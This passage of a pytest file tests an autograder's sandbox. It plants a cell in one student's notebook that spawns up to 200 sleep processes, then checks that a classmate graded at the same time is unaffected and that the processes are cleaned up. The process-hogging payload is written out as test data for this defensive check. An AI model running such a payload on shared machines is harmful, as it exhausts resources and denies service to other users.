    assert not folder.exists()  # removed afterwards


HOG = (
    "import subprocess\nheld = []\ntry:\n    for _ in range(200):\n"
    "        held.append(subprocess.Popen(['sleep', '60.4321']))  # a mark pgrep finds\n"
    "except OSError:\n    pass\nprint(len(held), 'processes held')\n"
)


def hog_processes() -> int:
    found = subprocess.run(["pgrep", "-c", "-f", "^sleep 60.4321$"], capture_output=True, text=True)
    return int(found.stdout.strip() or 0)


@pytest.mark.slow
@needs_root_sandbox
def test_two_concurrent_student_tasks_one_holding_64_processes(tmp_path):
    """The README's cluster flow on one machine: the hog's classmate is graded normally."""
    course = tmp_path / "course"
    course.mkdir()
    shutil.copy2(REPO / "course" / "nbgrader_config.py", course)
    run_tool("release", "--course", str(course), "--student-dir", str(tmp_path / "student"))
    release = course / "release" / ASSIGNMENT
    hog = filled(release, FIND)
    check = next(
        i
        for i, c in enumerate(hog.cells)
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        == "check_find_closest_centroids"
    )
    sleeps = [nbformat.v4.new_code_cell("import time\ntime.sleep(8)") for _ in range(7)]
    hog.cells[check + 1 : check + 1] = [nbformat.v4.new_code_cell(HOG), *sleeps]
    write_files(course, "hog", {FIND: hog})
    write_files(course, "honest", {FIND: filled(release, FIND)})
    run_tool("autograde", "--course", str(course), "--prepare", "--seed", "3")

    def task(student):
        return subprocess.Popen(
            [
                sys.executable,
                "-m",
                "tools.autograde",
                "--course",
                str(course),
                f"--student={student}",
            ],
            cwd=REPO,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            env=dict(
                os.environ,
                WORKERS="1",
                MPLBACKEND="Agg",
                KMEANS_LAB_CELL_TIMEOUT="10",
                KMEANS_LAB_NOTEBOOK_TIMEOUT="120",
            ),
        )

    first = task("hog")
    deadline = time.monotonic() + 300
    while hog_processes() < 50 and time.monotonic() < deadline and first.poll() is None:
        time.sleep(0.2)
    held = hog_processes()
    second = task("honest")
    second_out, held_when_started = "", None
    for line in second.stdout:  # "grading ...": its first sandbox started (the check passed)
        second_out += line
        if line.startswith("grading") and held_when_started is None:
            held_when_started = hog_processes()
    second.wait(timeout=600)
    first_out, _ = first.communicate(timeout=600)
    assert held >= 50, first_out
    assert held_when_started is not None and held_when_started >= 50, (
        held_when_started,
        second_out,
    )
    assert second.returncode == 0 and first.returncode == 0, second_out + first_out
    run_tool("autograde", "--course", str(course), "--merge")
    run_tool("grades", "--course", str(course))
    rows = read_rows(course)
    assert points(rows, "honest")["find_closest_centroids"] == 3.0, second_out
    assert points(rows, "hog")["find_closest_centroids"] == 3.0, first_out
    assert hog_processes() == 0


@needs_root_sandbox
def test_a_bad_uid_setting_is_one_clear_line_not_a_traceback(tmp_path, monkeypatch):
    monkeypatch.setenv("KMEANS_LAB_SANDBOX_UIDS", "0")
    with pytest.raises(SandboxUnavailable, match="KMEANS_LAB_SANDBOX_UIDS at least 1, got"):
        Sandbox(tmp_path).check_available(tmp_path)
